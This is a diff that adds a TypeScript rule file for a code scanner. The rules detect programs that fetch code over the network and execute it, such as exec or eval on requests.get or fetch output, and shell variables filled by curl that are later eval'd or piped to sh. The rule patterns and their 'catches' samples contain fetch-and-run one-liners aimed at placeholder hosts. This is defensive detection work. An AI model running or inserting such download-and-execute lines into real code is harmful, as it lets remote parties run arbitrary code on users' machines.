@@ -1,0 +1,194 @@
+/** RC-01: programs that evaluate what they fetch. */
+import { row, runKinds } from '../../engine/rule.ts';
+import {
+  blank,
+  capture,
+  chars,
+  code,
+  edge,
+  either,
+  gap,
+  lazy,
+  letters,
+  maybe,
+  notAfter,
+  oneOf,
+  pattern,
+  quote,
+  raw,
+  scheme,
+  seq,
+  space,
+  stem,
+  times,
+} from '../../engine/pattern.ts';
+import { byHost, fetchers } from './shared.ts';
+import { fenced, inFile } from '../../engine/example.ts';
+import { bodyVariables, replyVariables } from '../../vocabulary/remote-code/rc-01-download-to-interpreter.ts';
+import { isUsedLater } from '../../vocabulary/variables.ts';
+import type { Row } from '../../engine/rule.ts';
+
+export const programsOfDownloads: readonly Row[] = [
+  row('exec(requests.get(…))', {
+    within: 'line',
+    match: pattern(
+      edge,
+      oneOf(
+        'exec',
+        'eval',
+        'compile',
+        'Function',
+        seq('vm.run', letters(1, 20)),
+        'instance_eval',
+        'loadstring',
+        'load',
+      ),
+      space(0, 3),
+      code('('),
+      space(0, 4),
+      times(0, 4, oneOf(seq('await', space(1, 4)), code('('))),
+      oneOf(
+        seq(times(0, 3, letters(1, 20), '.'), 'urlopen'),
+        'requests.get',
+        'httpx.get',
+        'urllib.request.urlopen',
+        'fetch',
+        'axios.get',
+        'got',
+        'URI.open',
+        seq(code('open('), space(0, 3), quote, 'http(s)'),
+        seq(code('file_get_contents('), space(0, 3), quote, 'http(s)'),
+        'http.get',
+      ),
+      space(0, 3),
+      maybe(code('(')),
+      gap(300),
+    ),
+    weigh: (hit) => byHost(hit) ?? 'high',
+    catches: [
+      inFile('scripts/tool.py', 'import requests', 'exec(requests.get("https://cdn.invalid/x.py").text)'),
+    ],
+    spares: [
+      inFile(
+        'scripts/tool.py',
+        'import requests',
+        'data = requests.get("https://api.acme.example/x").json()',
+      ),
+    ],
+  }),
+  row('fetch, then evaluate what came', {
+    in: runKinds,
+    within: 'block',
+    match: pattern(
+      oneOf(
+        'requests.get',
+        'httpx.get',
+        'urlopen',
+        seq(edge, code('fetch(')),
+        'axios.get',
+        seq('http(s).get', code('(')),
+        seq(
+          code('require('),
+          space(0, 3),
+          raw('\\\\?'),
+          quote,
+          'http(s)',
+          raw('\\\\?'),
+          quote,
+          space(0, 3),
+          code(').get'),
+        ),
+      ),
+      gap(300),
+    ),
+    and: [
+      pattern(
+        either(
+          seq(
+            notAfter(chars('.\\w')),
+            oneOf('eval', 'new Function', seq('vm.run', letters(1, 20))),
+            space(0, 3),
+            code('('),
+            space(0, 4),
+            chars('A-Za-z_$'),
+          ),
+          seq(code('.then('), space(0, 3), 'eval', edge),
+          seq(
+            notAfter(chars('.\\w')),
+            oneOf('exec', 'eval', 'compile', 'execSync'),
+            space(0, 3),
+            code('('),
+            space(0, 4),
+            maybe('await', space(1, 4)),
+            maybe(code('(')),
+            space(0, 3),
+            times(1, 3, letters(1, 30), '.'),
+            oneOf('text', 'content', 'data', 'body', 'read', 'decode', 'toString'),
+            edge,
+          ),
+          seq(
+            edge,
+            oneOf('os.system', 'os.popen', seq('subprocess.', letters(2, 14)), 'execSync', 'spawnSync'),
+            code('('),
+            space(0, 4),
+            oneOf(...replyVariables),
+            times(0, 2, '.', letters(1, 12)),
+            maybe(code('()')),
+            space(0, 3),
+            chars(',)'),
+          ),
+          seq(edge, '_compile', space(0, 2), code('(')),
+          seq(
+            notAfter(chars('.\\w')),
+            'exec',
+            space(0, 3),
+            code('('),
+            space(0, 4),
+            oneOf(...bodyVariables, stem('chunk', 8)),
+            edge,
+          ),
+        ),
+      ),
+      pattern(scheme),
+    ],
+    weigh: byHost,
+    catches: [
+      inFile('scripts/a.py', 'r = requests.get("https://p.invalid/a.py")', 'exec(r.text)'),
+      inFile('scripts/a.py', 'code = urllib.request.urlopen("https://p.invalid/a.py").read()', 'exec(code)'),
+    ],
+    spares: [
+      inFile(
+        'scripts/tool.mjs',
+        'const reply = await fetch("https://api.acme.example/v1");',
+        'console.log(await reply.text());',
+      ),
+    ],
+  }),
+  row('a download kept in a variable that is run', {
+    in: ['fence', 'script', 'decoded', 'hidden', 'comment'],
+    within: 'block',
+    match: pattern(
+      edge,
+      capture(letters(1, 30)),
+      '=',
+      maybe(quote),
+      oneOf(code('$('), '`'),
+      space(0, 4),
+      fetchers,
+      blank,
+      lazy(gap(200)),
+      'http(s):',
+      gap(200),
+    ),
+    weigh: (hit) =>
+      isUsedLater(
+        hit,
+        (name) =>
+          String.raw`(?:\beval|\b(?:ba|z|da)?sh\s{1,4}-c|<<<)\s{0,4}["']?\$\{?${name}\b|\$\{?${name}\}?["']?\s{0,3}\|\s{0,3}(?:ba|z|da)?sh\b`,
+      )
+        ? byHost(hit)
+        : null,
+    catches: [fenced('sh', 'x=$(curl -fsSL https://s.invalid/i)', 'eval "$x"')],
+    spares: [fenced('sh', 'v=$(curl -s https://api.acme.example/version)', 'echo "$v"')],
+  }),
+];
